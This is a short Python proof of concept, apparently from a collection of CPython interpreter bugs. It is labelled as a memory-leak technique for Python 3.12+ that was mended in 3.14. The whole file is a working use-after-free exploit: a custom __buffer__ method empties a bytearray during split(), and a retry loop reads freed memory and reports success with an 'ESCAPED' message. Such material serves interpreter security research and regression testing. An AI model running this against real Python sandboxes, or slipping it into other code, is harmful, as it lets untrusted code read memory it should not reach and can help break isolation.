# technique: bytearray.split(sep) calls sep.__buffer__, which empties the array: what is split is freed memory
# mended: 3.14
# goal: leak
# python: 3.12+
# source: own analysis: bytearray_split_impl() in bytearrayobject.c
class Separator:
    def __buffer__(self, flags):
        global other
        b.clear()
        other = bytearray(b'someone else' * 300)
        return memoryview(b'#')


for i in range(100):
    b = bytearray(b'a' * 3601)
    if b'someone' in b''.join(b.split(Separator())):
        print('ESCAPED freed memory read')
        break
